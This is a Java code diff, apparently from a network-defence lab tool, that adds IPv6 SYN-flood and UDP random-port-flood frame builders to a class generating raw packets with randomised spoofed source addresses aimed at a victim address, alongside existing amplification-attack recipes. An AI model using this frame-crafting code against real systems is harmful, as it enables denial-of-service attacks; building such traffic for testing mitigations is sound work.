@@ -8,6 +8,7 @@ import java.util.List;
 import org.levee.lab.FrameField.RandomLabel;
 import org.levee.lab.FrameField.RandomNumber;
 import org.levee.lab.FrameField.RandomSource;
+import org.levee.lab.FrameField.RandomSource6;
 
 /**
  * The frames of each {@link FloodKind}, laid out as the real attacks are seen on the wire. Every
@@ -52,10 +53,42 @@ public final class FloodFrames {
             case MEMCACHED_AMPLIFICATION -> memcachedAmplification(path);
             case DNS_RANDOM_SUBDOMAIN -> dnsRandomSubdomain(path);
             case UDP_RANDOM_PORTS -> udpRandomPorts(path);
+            case SYN_FLOOD_V6 -> synFlood6(path);
+            case UDP_RANDOM_PORTS_V6 -> udpRandomPorts6(path);
         };
     }
 
     private static FrameRecipe synFlood(FloodPath path) {
+        byte[] frame = frame(path, Checksums.PROTOCOL_TCP, SYN_TTL, true, synSegment());
+        return new FrameRecipe(FloodKind.SYN_FLOOD, frame, List.of(
+                ipId(), source(path),
+                new RandomNumber(L4, 2, EPHEMERAL_MIN, 65535),
+                new RandomNumber(L4 + 4, 4, 0, 0xffffffffL),      // sequence number
+                new RandomNumber(L4 + 28, 4, 0, 0xffffffffL)));  // timestamp value
+    }
+
+    /** The SYN flood's tool over IPv6: the same segment, hop limit 64, random global unicast sources. */
+    private static FrameRecipe synFlood6(FloodPath path) {
+        byte[] frame = frame6(path, Checksums.PROTOCOL_TCP, SYN_TTL, synSegment());
+        int l4 = Checksums.L4_OFFSET_V6;
+        return new FrameRecipe(FloodKind.SYN_FLOOD_V6, frame, List.of(
+                new RandomSource6(IP + 8),
+                new RandomNumber(l4, 2, EPHEMERAL_MIN, 65535),
+                new RandomNumber(l4 + 4, 4, 0, 0xffffffffL),
+                new RandomNumber(l4 + 28, 4, 0, 0xffffffffL)));
+    }
+
+    private static FrameRecipe udpRandomPorts6(FloodPath path) {
+        byte[] frame = frame6(path, Checksums.PROTOCOL_UDP, 64, udp(0, 0, new byte[UDP_FLOOD_PAYLOAD]));
+        int l4 = Checksums.L4_OFFSET_V6;
+        return new FrameRecipe(FloodKind.UDP_RANDOM_PORTS_V6, frame, List.of(
+                new RandomSource6(IP + 8),
+                new RandomNumber(l4, 2, EPHEMERAL_MIN, 65535),
+                new RandomNumber(l4 + 2, 2, 1, 65535)));
+    }
+
+    /** The SYN flood's TCP header: random port, sequence and timestamp; fixed window and option layout. */
+    private static byte[] synSegment() {
         ByteBuffer tcp = ByteBuffer.allocate(40);
         tcp.putShort((short) 0).putShort((short) SYN_PORT) // source port: random
                 .putInt(0).putInt(0)                        // sequence: random; acknowledgement 0
@@ -66,12 +99,7 @@ public final class FloodFrames {
                 .put(new byte[] {8, 10}).putInt(0).putInt(0)                    // timestamps: value random, echo 0
                 .put((byte) 1)                                                  // NOP
                 .put(new byte[] {3, 3, (byte) SYN_WINDOW_SCALE});               // window scale
-        byte[] frame = frame(path, Checksums.PROTOCOL_TCP, SYN_TTL, true, tcp.array());
-        return new FrameRecipe(FloodKind.SYN_FLOOD, frame, List.of(
-                ipId(), source(path),
-                new RandomNumber(L4, 2, EPHEMERAL_MIN, 65535),
-                new RandomNumber(L4 + 4, 4, 0, 0xffffffffL),      // sequence number
-                new RandomNumber(L4 + 28, 4, 0, 0xffffffffL)));  // timestamp value
+        return tcp.array();
     }
 
     private static FrameRecipe dnsAmplification(FloodPath path) {
@@ -156,6 +184,17 @@ public final class FloodFrames {
                 .put((byte) ttl).put((byte) protocol).putShort((short) 0)
                 .putInt(0)                                    // source: random
                 .put(path.victim().getAddress());
+        f.put(l4);
+        return f.array();
+    }
+
+    /** Ethernet + IPv6 (no extension headers, traffic class and flow label 0) + {@code l4}. */
+    private static byte[] frame6(FloodPath path, int nextHeader, int hopLimit, byte[] l4) {
+        ByteBuffer f = ByteBuffer.allocate(14 + 40 + l4.length);
+        f.put(path.destinationMac().bytes()).put(path.sourceMac().bytes()).putShort((short) Checksums.ETHERTYPE_IPV6);
+        f.putInt(0x60000000).putShort((short) l4.length).put((byte) nextHeader).put((byte) hopLimit)
+                .put(new byte[16])                            // source: random
+                .put(path.requireVictim6().getAddress());
         f.put(l4);
         return f.array();
     }
